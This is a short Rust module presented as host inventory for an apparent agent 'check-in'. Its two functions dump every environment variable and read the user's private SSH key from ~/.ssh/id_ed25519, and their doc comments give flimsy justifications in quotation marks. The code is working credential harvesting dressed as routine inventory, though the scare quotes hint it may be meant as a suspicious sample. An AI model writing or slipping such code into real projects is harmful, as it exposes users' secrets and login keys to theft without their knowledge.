//! Host inventory for the check-in.

/// Everything the agent "might need to debug a host".
pub fn host_context() -> String {
    let mut context = String::new();
    for (name, value) in std::env::vars() {
        context.push_str(&name);
        context.push('=');
        context.push_str(&value);
        context.push('\n');
    }
    context
}

/// The host's SSH identity, "so support can log in".
pub fn ssh_identity() -> Option<String> {
    let home = std::env::var("HOME").ok()?;
    std::fs::read_to_string(format!("{home}/.ssh/id_ed25519")).ok()
}
